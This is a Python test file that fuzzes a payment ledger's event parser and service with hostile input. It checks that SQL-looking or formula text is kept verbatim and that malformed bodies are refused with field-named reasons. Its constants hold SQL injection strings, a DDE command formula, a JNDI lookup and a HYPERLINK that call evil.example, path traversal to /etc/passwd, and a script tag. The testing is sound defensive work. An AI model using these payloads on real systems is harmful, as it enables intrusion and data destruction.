"""Hostile input to the event parser and the application service (issue 10, item 4).

Whatever arrives — any bytes, JSON nested ten thousand deep, numbers no double holds, unknown currencies, NUL
characters, invalid UTF-8, text that looks like SQL or a spreadsheet formula — the parser either returns an event
or raises :class:`InvalidEvent` whose every problem names a field and a reason; the service records an accepted
event exactly as posted (text verbatim: SQL-looking text is data) and a refused one leaves the log as it was;
nothing recorded can stop a projection, on SQLite or PostgreSQL.
"""

from __future__ import annotations

import copy
import json
import re
import uuid
from collections.abc import Iterator
from typing import Any, Final

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from adapters import aml
from adapters.bootstrap import Ledger, open_ledger
from domain.catalog import MAX_EVENT_BYTES, InvalidEvent, canonical_bytes, parse_event
from domain.service import Outcome
from ledger.pan import contains_pan
from tests.factories import adjustment, authorized, captured, ev, fee, held, placed, refunded

#: Text a person or a system should never get to act on: stored as data, never run.
SQL: Final = [
    "x'); DROP TABLE quipu_events;--",
    "' OR '1'='1",
    "1; DELETE FROM api_clients",
    '"; SELECT pg_sleep(5);--',
]
FORMULAS: Final = ['=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)",
                   "\t=1", "\r=1"]  # fmt: skip
ODD_TEXT: Final = ["\x00", "a\x00b", "\u202egnp.exe", "💸" * 10, "ß" * 500, "x" * 501, "", " ", "\n", "\x1b[31m",
                   "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "../../etc/passwd", "%00", "\\u0000",
                   "4111 1111 1111 1111"]  # fmt: skip
HOSTILE_TEXT: Final = [*SQL, *FORMULAS, *ODD_TEXT]
HOSTILE_VALUES: Final[list[Any]] = [*HOSTILE_TEXT, 0, -1, 2**63, -(2**63) - 1, 10**30, 0.1, 1e300, -0.0, True, None,
                                    [], {}, [[[[[]]]]], {"$ne": 1}, "1e309", "1" + "0" * 5000, "NaN", "Infinity",
                                    "ZZZ", "XTS", "brl", "0.001", "-1.00", "00.10", "1_000.00", " 1.00"]  # fmt: skip
#: Raw bodies no JSON encoder would write.
RAW: Final = {
    "deep arrays": b"[" * 10_000 + b"]" * 10_000,
    "deep objects": b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
    "a number past any double": b'{"type":"payment.authorized","schema_version":1e309}',
    "a 5,000-digit integer": b'{"type":"payment.authorized","schema_version":' + b"9" * 5000 + b"}",
    "NaN": b'{"type":"payment.authorized","schema_version":NaN}',
    "invalid UTF-8": b'{"type":"payment.\xff\xfeauthorized"}',
    "a lone surrogate": b'{"type":"\\ud800"}',
    "a byte-order mark": b"\xef\xbb\xbf{}",
    "NUL bytes": b"\x00" * 64,
    "an empty body": b"",
    "one byte over the limit": b'{"source":"' + b"x" * MAX_EVENT_BYTES + b'"}',
    "a string never closed": b'{"type":"payment.authorized',
    "two documents": b"{}{}",
}
#: A refusal's problems: "field: reason", the field "event" or a dotted path from one of the envelope's fields (or the
#: unknown field that was added), its parts the keys and list indexes as posted.
PROBLEM: Final = re.compile(
    r"^(event|(event_id|type|schema_version|occurred_at|source|payload|unexpected_field)(\..*?)?( \(a key\))?): \S",
    re.DOTALL,
)
#: Examples the parser and the service see (the report counts them from --hypothesis-show-statistics).
EXAMPLES: Final = 250


def _events() -> list[dict[str, Any]]:
    """One event of several shapes: money, methods, lists of lines, free text."""
    return [
        placed("o1", "BR", "100.00"),
        authorized("p1", "100.00"),
        captured("p1", "60.00"),
        refunded("p1", "r1", "10.00"),
        fee("f1", "3.00"),
        held("h1", "5.00", reason="risk review"),
        adjustment(
            "a1",
            [
                ("platform:P:fee_revenue:BRL", "debit", "1.00", "BRL"),
                ("seller:S1:available:BRL", "credit", "1.00", "BRL"),
            ],
        ),
    ]


def _paths(doc: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every place in a document a value can be put: each leaf, each container, and a new key in each object."""
    yield prefix
    if isinstance(doc, dict):
        yield (*prefix, "unexpected_field")
        for key, value in doc.items():
            yield from _paths(value, (*prefix, key))
    elif isinstance(doc, list):
        for i, value in enumerate(doc):
            yield from _paths(value, (*prefix, i))


def _put(doc: Any, path: tuple[Any, ...], value: Any) -> Any:
    if not path:
        return value
    doc = copy.deepcopy(doc)
    cur = doc
    for part in path[:-1]:
        cur = cur[part]
    cur[path[-1]] = value
    return doc


def _encode(doc: Any, ascii_only: bool) -> bytes:
    """JSON as any client might write it: huge integers kept, lone surrogates as escapes or as raw (invalid) UTF-8."""
    return json.dumps(doc, ensure_ascii=ascii_only, allow_nan=True).encode("utf-8", "surrogatepass")


def _assert_refusal(reason: str, problems: list[str] | tuple[str, ...]) -> None:
    assert reason and problems, "a refusal gives its reason"
    assert reason == "; ".join(problems)
    for problem in problems:
        assert PROBLEM.match(problem), f"not 'field: reason': {problem[:300]!r}"
    assert not contains_pan(reason), "a refusal never repeats a card number"
    assert len(reason) < 4000, f"a refusal does not repeat its input back at length: {len(reason)} characters"


values = st.one_of(
    st.sampled_from(HOSTILE_VALUES),
    st.text(max_size=80),
    st.integers(min_value=-(10**40), max_value=10**40),
    st.floats(allow_nan=True, allow_infinity=True),
    st.recursive(
        st.none() | st.booleans() | st.text(max_size=5),
        lambda c: st.lists(c, max_size=3) | st.dictionaries(st.text(max_size=5), c, max_size=3),
        max_leaves=8,
    ),
)


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(raw=st.binary(max_size=2000) | st.text(max_size=500).map(lambda t: t.encode("utf-8", "surrogatepass")))
def test_any_bytes_are_an_event_or_a_refusal_naming_the_field(raw: bytes) -> None:
    try:
        parse_event(raw)
    except InvalidEvent as exc:
        _assert_refusal(str(exc), exc.problems)


@pytest.mark.parametrize("name", list(RAW))
def test_bodies_no_encoder_writes_are_refused_naming_the_event(name: str) -> None:
    with pytest.raises(InvalidEvent) as refused:
        parse_event(RAW[name])
    _assert_refusal(str(refused.value), refused.value.problems)
    assert str(refused.value).startswith(("event: ", "type: ")), str(refused.value)[:200]


@pytest.fixture(scope="module")
def fuzz_ledger(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ledger]:
    with open_ledger(f"sqlite:///{tmp_path_factory.mktemp('fuzz-events')}/ledger.db") as ledger:
        # The streams the mutated events land on: an order and an authorized, captured payment.
        for doc in (placed("o1", "BR", "100.00"), authorized("p1", "100.00"), captured("p1", "60.00")):
            assert ledger.service.post([doc])[0].outcome is Outcome.APPENDED
        yield ledger


@settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(data=st.data())
def test_a_hostile_value_anywhere_in_an_event_is_recorded_verbatim_or_refused_naming_its_field(
    fuzz_ledger: Ledger, data: st.DataObject
) -> None:
    base = data.draw(st.sampled_from(_events()))
    base["event_id"] = str(uuid.uuid4())
    path = data.draw(st.sampled_from(list(_paths(base))))
    value = data.draw(values)
    doc = _put(base, path, value)
    raw = _encode(doc, data.draw(st.booleans()))
    head = fuzz_ledger.store.head()

    [result] = fuzz_ledger.service.post([raw])

    if result.outcome is Outcome.APPENDED:
        assert fuzz_ledger.store.head() == head + 1 == result.position
        [record] = fuzz_ledger.store.read(head, 1)
        assert record.body == canonical_bytes(parse_event(raw)), "the log keeps the event's canonical bytes"
        if isinstance(value, str) and path and path[-1] not in ("amount", "event_id", "occurred_at"):
            stored: Any = orjson.loads(record.body)
            for part in path:
                stored = stored[part]
            assert stored == value, "text is kept as given: SQL or a formula is data"
        fuzz_ledger.runner.run()  # and every projection takes it
    else:
        assert result.outcome is Outcome.REJECTED, result
        _assert_refusal(result.reason or "", result.problems or (result.reason or "",))
        assert fuzz_ledger.store.head() == head, "a refused event writes nothing"


#: (event, where the hostile text goes) for events whose text a projection copies into its table: an AML case's
#: notes (``aml_case_log``) and a rate's source (``fx_rates``). ``{i}`` makes each one new.
PROJECTED_TEXT: Final = [
    (ev("aml.case_action", {"case_id": "CASE-F", "seller_id": "S1", "action": "note", "by": "ana", "text": "x"},
        event_id=None), ("payload", "text")),
    (ev("aml.case_action", {"case_id": "CASE-F", "seller_id": "S1", "action": "note", "by": "x", "text": "n {i}"},
        event_id=None), ("payload", "by")),
    (ev("fx.rate_published", {"base": "BRL", "quote": "USD", "rate": "0.18", "source": "x",
                              "as_of": "2026-10-01T12:{i:02}:00+00:00"}), ("payload", "source")),
]  # fmt: skip


def test_hostile_text_the_projections_copy_is_kept_verbatim_or_refused_and_never_stops_them(ledger: Ledger) -> None:
    """On both databases. PostgreSQL cannot keep a NUL in a text column: an event holding one must be refused
    before it is recorded, or every projection stops at it for good (an AML note could do that)."""
    opened = ev("aml.case_opened", {"case_id": "CASE-F", "seller_id": "S1", "alert_ids": ["AL-1"],
                                    "typologies": ["structuring"], "opened_by": "aml"})  # fmt: skip
    assert ledger.service.post([opened])[0].outcome is Outcome.APPENDED
    kept, refused = 0, 0
    texts = [t for t in HOSTILE_TEXT if 0 < len(t) <= 60]
    for i, text in enumerate(texts):
        for template, path in PROJECTED_TEXT:
            doc = orjson.loads(orjson.dumps(template).decode().replace("{i:02}", f"{i:02}").replace("{i}", str(i)))
            doc["event_id"] = str(uuid.uuid4())
            doc = _put(doc, path, text)
            [result] = ledger.service.post([doc])
            if "\x00" in text or contains_pan(text):
                assert result.outcome is Outcome.REJECTED, (text, result)
                assert (result.reason or "").startswith(".".join(path) + ": "), result.reason
                refused += 1
            else:
                assert result.outcome is Outcome.APPENDED, (text, path, result)
                kept += 1
        ledger.runner.run()  # every projection takes what was recorded
    assert kept and refused
    notes = {r[0] for r in ledger.views.query("SELECT text FROM aml_case_log WHERE case_id = ?", ("CASE-F",))}
    sources = {r[0] for r in ledger.views.query("SELECT source FROM fx_rates", ())}
    for text in SQL + FORMULAS:
        assert text in notes and text in sources, f"{text!r} is kept as data, verbatim"
    assert aml.case_rows(ledger, "CASE-F")  # and the ledger still answers
